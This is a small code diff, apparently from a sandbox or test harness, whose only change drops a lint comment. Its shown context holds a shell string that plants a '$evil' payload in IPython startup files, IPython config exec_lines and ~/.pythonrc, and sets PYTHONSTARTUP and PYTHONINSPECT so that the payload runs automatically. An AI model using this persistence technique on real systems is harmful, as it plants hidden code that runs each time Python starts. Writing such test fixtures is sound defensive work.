@@ -37,7 +37,7 @@ echo "$evil" > ~/.ipython/profile_default/startup/00.py
 echo "c = get_config(); c.InteractiveShellApp.exec_lines = ['$evil']" | tee
 ~/.ipython/profile_default/ipython_config.py > ipython_config.py echo "$evil" > ~/.pythonrc
 export PYTHONSTARTUP=~/.pythonrc PYTHONPATH=/workspace PYTHONINSPECT=1
-"""  # noqa: E501
+"""
 
 
 async def absent(box: Toolbox, name: str) -> bool:
